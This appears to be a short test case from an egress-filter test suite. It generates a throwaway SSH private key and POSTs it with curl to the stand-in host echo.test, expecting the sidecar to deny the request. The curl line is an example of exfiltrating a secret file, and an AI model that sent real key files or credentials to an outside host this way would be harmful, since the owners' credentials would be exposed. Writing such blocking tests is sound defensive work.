# S4: a private key block in a POST body
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test
# upstream-must-not-see: PRIVATE KEY
rm -f /tmp/k /tmp/k.pub; ssh-keygen -q -t ed25519 -N '' -f /tmp/k
curl -sS -m 10 -f --data-binary @/tmp/k http://echo.test/allowed/k
